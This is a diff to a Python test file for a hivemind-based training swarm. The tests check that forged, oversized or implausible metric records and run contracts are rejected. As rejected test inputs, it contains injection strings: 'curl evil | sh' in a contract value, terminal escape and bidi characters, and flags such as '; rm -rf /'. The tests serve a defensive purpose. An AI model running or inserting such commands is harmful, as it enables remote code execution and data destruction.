@@ -1,4 +1,4 @@
-"""Metric records between real DHTs on loopback: what a validating reader sees, and what it makes of it."""
+"""Metric records between real DHTs on loopback, with validators, and their aggregation."""
 
 import concurrent.futures
 import dataclasses
@@ -16,14 +16,14 @@ from hivemind.utils.crypto import RSAPrivateKey
 from processes import make_prefix, wait_until
 from records import attack, make_metrics, run_dhts, sign
 
-import swarm  # noqa: F401 (it sets what hivemind's daemon reads: without, two peers' first dials may both fail)
+import swarm  # noqa: F401 (it sets a variable of hivemind's daemon, without which two peers' first dials may both fail)
+from swarm.contract import RunContract, RunSchema
+from swarm.trust import ContributorRegistry
+from training.figures import fetch_metrics
 from utils import (
     MAX_RECORD_BYTES,
     MAX_RECORD_LIFETIME,
-    ContributorRegistry,
-    RunContract,
     aggregate_metrics,
-    fetch_metrics,
     filter_plausible_records,
     make_validators,
     make_worker_key,
@@ -77,7 +77,7 @@ def test_reader_sees_only_good_records():
 
 
 def test_undecodable_and_oversized_values_stop_no_reader():
-    """Under keys that no schema covers (note 34), with and without subkey."""
+    """Keys without a schema (note 34), with and without subkey."""
     prefix, expires, plain = make_prefix(), get_dht_time() + 300, DHTProtocol.IS_REGULAR_VALUE
     key, attacker_key = f"{prefix}_group", RSAPrivateKey()
     owned = MSGPackSerializer.dumps(RSASignatureValidator(attacker_key).local_public_key)
@@ -90,7 +90,7 @@ def test_undecodable_and_oversized_values_stop_no_reader():
             signed = sign(attacker_key, key, owned, b"\xc1", expires)
             assert attack(attacker, victim, key, owned, signed, expires) == [False]
         assert reader.get(key, latest=True, return_future=True).result(timeout=20) is None
-        # a good value beside it is found
+        # a good value next to it is found
         assert first.store(key, "good", subkey=own_key, expiration_time=expires + 1)
         found = reader.get(key, latest=True, return_future=True).result(timeout=20).value
         assert {subkey: item.value for subkey, item in found.items()} == {own_key: "good"}
@@ -115,9 +115,9 @@ def test_hivemind_alone_stops_at_an_undecodable_value():
 
 def test_contracts_are_bounded():
     prefix = make_prefix()
-    validators, subkey = make_validators(prefix)
+    validators, subkey = make_validators(prefix, schema=RunSchema)
     expiration_time = get_dht_time() + 300
-    with run_dhts(validators, make_validators(prefix)[0]) as (writer, reader):
+    with run_dhts(validators, make_validators(prefix, schema=RunSchema)[0]) as (writer, reader):
 
         def store(contract: dict | None, flags: str = "--seed 1 --learning_rate 3e-3 --overlap") -> bool:
             record = None if contract is None else {"joined": 1.0, "contract": contract, "flags": flags}
@@ -128,10 +128,10 @@ def test_contracts_are_bounded():
 
         for contract in ({"": "x"}, {"a" * 65: "x"}, {"a": "x" * 201}, {"a": 1}, {str(i): "x" for i in range(33)}):
             assert not store(contract)
-        # who joins is shown the terms of others: what a terminal obeys, and what reads like a line of ours
+        # a joining peer prints the terms of others: terminal controls, and text that imitates our lines
         for contract in ({"a": "64\n run: curl evil | sh"}, {"\x1b[2J": "x"}, {"a": "\u202e46"}):
             assert not store(contract)
-        # what people may paste into a shell
+        # people may paste the flags into a shell
         for flags in (
             "; rm -rf /",
             "--seed 1; ls",
@@ -199,7 +199,7 @@ def test_absurd_epochs_hide_nobody():
     # one against one: the epoch that was known decides, without one the newest
     assert aggregate_metrics([honest[0], absurd]).epoch == 10**9
     assert aggregate_metrics([honest[0], absurd], last_epoch=9).epoch == 10
-    # what is left of peers that died ten minutes ago does not outvote the one that goes on
+    # the last records of peers that died ten minutes ago do not outvote the one that continues
     assert aggregate_metrics([*honest, ("survivor", make_metrics(900))]).epoch == 900
     believable = filter_plausible_records([*honest, absurd])
     assert filter_plausible_records(believable) == believable == honest
@@ -222,7 +222,7 @@ def test_figures_are_those_of_peers_that_have_worked(monkeypatch):
     workers = ContributorRegistry()
     assert workers.select({}) == set()
     first = {peer_id: make_metrics(1, partners=name([p for p in honest if p != peer_id])) for peer_id in honest}
-    assert workers.select({honest[0]: first[honest[0]]}) == {honest[0]}  # who reports first
+    assert workers.select({honest[0]: first[honest[0]]}) == {honest[0]}  # the first to report
     assert workers.select(first) == set(honest)
     false = {peer_id: make_metrics(10**6, loss=0.0, partners=name(strangers)) for peer_id in strangers}
     assert workers.select(first | false) == set(honest) == workers.present
@@ -237,13 +237,13 @@ def test_figures_are_those_of_peers_that_have_worked(monkeypatch):
     assert workers.select(third | false) == set(honest)
     fourth = report(4, honest, [*honest, late], strangers) | {late: make_metrics(4, partners=name(honest))}
     assert workers.select(fourth | false) == {*honest, late}
-    # the others have left: what is left of their records does not keep out who comes now
+    # the others have left: their last records do not keep out a new peer
     fifth, new = {**fourth, late: make_metrics(9, partners=name(make_ids("new", 1)))}, make_ids("new", 1)[0]
     assert workers.select(fifth | {new: make_metrics(9)}) == {*honest, late}
     sixth = {**fourth, late: make_metrics(20, partners=name([new])), new: make_metrics(20)}
     assert workers.select({late: sixth[late], new: sixth[new]}) == {late, new}
-    # where none of them has made an epoch for long, anybody may begin
-    monkeypatch.setattr("utils.MIN_CONTRIBUTOR_TIMEOUT", -1.0)
+    # if none of them has finished an epoch for a while, any peer may start
+    monkeypatch.setattr("swarm.trust.MIN_CONTRIBUTOR_TIMEOUT", -1.0)
     others = {peer_id: make_metrics(1, epoch_seconds=0.0) for peer_id in strangers[:2]}
     known = ContributorRegistry(honest)
     known.select({peer_id: make_metrics(7, epoch_seconds=0.0) for peer_id in honest})
